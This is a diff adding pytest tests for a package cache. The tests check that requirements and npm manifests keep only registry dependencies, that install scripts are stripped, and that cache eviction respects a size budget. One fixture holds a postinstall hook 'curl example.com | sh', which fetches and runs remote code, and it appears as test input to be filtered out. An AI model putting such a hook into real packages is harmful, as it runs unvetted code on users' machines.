@@ -0,0 +1,74 @@
+import base64
+import hashlib
+import json
+import os
+
+from package_cache import NPM_REGISTRY, PackageCache, index_requirements, registry_manifest
+
+
+def test_index_requirements_keeps_only_index_packages():
+    text = (
+        "# pinned\n"
+        "requests>=2.0  # http\n"
+        "--extra-index-url https://mirror.example/simple\n"
+        "-e git+https://example.com/repo.git#egg=repo\n"
+        "flask[async]==2.0 ; python_version >= \"3.8\"\n"
+        "evil @ https://example.com/evil.whl\n"
+        "./vendored\n"
+        "numpy==1.26 \\\n"
+        "    --hash=sha256:abc\n"
+        "-r other.txt\n"
+    )
+    assert index_requirements(text) == (
+        "requests>=2.0\n"
+        "flask[async]==2.0 ; python_version >= \"3.8\"\n"
+        "numpy==1.26\n"
+    )
+
+
+def test_registry_manifest_drops_non_registry_dependencies():
+    package = {"name": "bot", "scripts": {"postinstall": "curl example.com | sh"}, "dependencies": {
+        "telegraf": "^4.0", "left-pad": "latest", "repo": "github:user/repo", "local": "file:../local",
+        "tarball": "https://example.com/x.tgz",
+    }}
+    lock = {"packages": {"": {"name": "bot"},
+                         "node_modules/telegraf": {"resolved": f"{NPM_REGISTRY}telegraf/-/telegraf-4.0.0.tgz"}}}
+    reduced, kept_lock = registry_manifest(package, lock)
+    assert reduced["dependencies"] == {"telegraf": "^4.0", "left-pad": "latest"}
+    assert "scripts" not in reduced
+    assert kept_lock is lock
+
+
+def test_registry_manifest_drops_lock_resolving_elsewhere():
+    lock = {"packages": {"node_modules/telegraf": {"resolved": "https://example.com/telegraf.tgz"}}}
+    _, kept_lock = registry_manifest({"dependencies": {"telegraf": "^4.0"}}, lock)
+    assert kept_lock is None
+
+
+
+def _cache_npm_entry(cache, key, data, bucket_mtime, content_mtime):
+    # Content and index bucket laid out the way npm's cacache writes them.
+    integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
+    content = cache._npm_content_path(integrity)
+    key_hash = hashlib.sha256(key.encode()).hexdigest()
+    bucket = os.path.join(cache.root, "npm", "_cacache", "index-v5", key_hash[:2], key_hash[2:4], key_hash[4:])
+    entry = json.dumps({"key": key, "integrity": integrity, "time": 0, "size": len(data)})
+    for path, body, mtime in ((content, data, content_mtime),
+                              (bucket, f"\n{hashlib.sha1(entry.encode()).hexdigest()}\t{entry}".encode(), bucket_mtime)):
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "wb") as f:
+            f.write(body)
+        os.utime(path, (mtime, mtime))
+    return bucket, content
+
+
+def test_budget_evicts_npm_index_buckets_with_their_content(tmp_path):
+    cache = PackageCache(None, str(tmp_path), "image", budget_bytes=0)
+    # Written long ago, but its content was used by a recent install.
+    used = _cache_npm_entry(cache, "make-fetch-happen:request-cache:used.tgz", b"u" * 4000, 1000, 3000)
+    idle = _cache_npm_entry(cache, "make-fetch-happen:request-cache:idle.tgz", b"i" * 4000, 2000, 2000)
+    cache.budget_bytes = sum(os.path.getsize(path) for path in used) + 100
+    cache.enforce_budget(force=True)
+    assert all(os.path.exists(path) for path in used)
+    assert not any(os.path.exists(path) for path in idle)
+    assert cache.stats()["evictions"] == 2